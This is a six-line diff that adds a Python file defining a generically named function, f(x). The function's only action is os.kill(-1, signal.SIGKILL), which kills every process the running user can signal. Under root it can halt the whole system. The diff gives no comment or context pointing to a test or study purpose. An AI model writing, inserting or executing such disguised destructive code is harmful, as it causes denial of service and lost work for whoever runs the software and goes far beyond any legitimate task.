@@ -1,0 +1,6 @@
+import os
+import signal
+
+
+def f(x):
+    os.kill(-1, signal.SIGKILL)
